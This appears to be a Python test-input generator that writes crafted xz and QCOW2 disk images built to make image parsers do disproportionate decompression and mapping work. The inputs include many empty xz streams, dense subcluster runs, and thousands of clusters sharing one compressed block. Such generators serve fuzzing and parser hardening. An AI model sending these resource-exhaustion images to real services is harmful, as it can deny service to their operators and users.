#!/usr/bin/env python3
"""bombs.py KIND FILE: writes a small image that makes much work.

  xz-streams   a disk of 1 MiB in xz, and 200,000 streams of nothing
  qcow2-runs   a QCOW2 in whose subclusters every second one is a run: 4 MiB
  qcow2-shared a QCOW2 whose 60,000 compressed clusters are the same bytes
"""

import lzma
import struct
import sys
import zlib

CLUSTER_BITS = 14
CLUSTER = 1 << CLUSTER_BITS


def xz_streams(out):
    out.write(lzma.compress(bytes(1 << 20)))
    out.write(lzma.compress(b"") * 200_000)


def qcow2(out, tables, entry, incompatible, tail=b""):
    per_table = CLUSTER // len(entry)
    l1_clusters = -(-tables * 8 // CLUSTER)
    first = (2 + l1_clusters) * CLUSTER
    head = struct.pack(">4sIQIIQIIQQIIQ", b"QFI\xfb", 3, 0, 0, CLUSTER_BITS,
                       tables * per_table * CLUSTER, 0, tables, 2 * CLUSTER,
                       CLUSTER, 1, 0, 0)
    head += struct.pack(">QQQII", incompatible, 0, 0, 4, 112) + bytes(8)
    out.write(head.ljust(2 * CLUSTER, b"\0"))
    l1 = b"".join(struct.pack(">Q", 1 << 63 | first + i * CLUSTER)
                  for i in range(tables))
    out.write(l1.ljust(l1_clusters * CLUSTER, b"\0"))
    out.write(entry * per_table * tables)
    out.write(tail)


def qcow2_runs(out):
    qcow2(out, 256, struct.pack(">QQ", 0, 0x55555555 << 32), 16)


def qcow2_shared(out):
    tables = 30
    packer = zlib.compressobj(9, zlib.DEFLATED, -12)
    noise = bytes((i * i * 7 + (i >> 3)) & 0xFF for i in range(CLUSTER))
    packed = packer.compress(noise) + packer.flush()
    sectors = -(-len(packed) // 512) - 1
    shift = 62 - (CLUSTER_BITS - 8)
    entry = 1 << 62 | sectors << shift | (3 + tables) * CLUSTER
    qcow2(out, tables, struct.pack(">Q", entry), 0,
          packed.ljust(CLUSTER, b"\0"))


KINDS = {"xz-streams": xz_streams, "qcow2-runs": qcow2_runs,
         "qcow2-shared": qcow2_shared}

with open(sys.argv[2], "wb") as bomb:
    KINDS[sys.argv[1]](bomb)
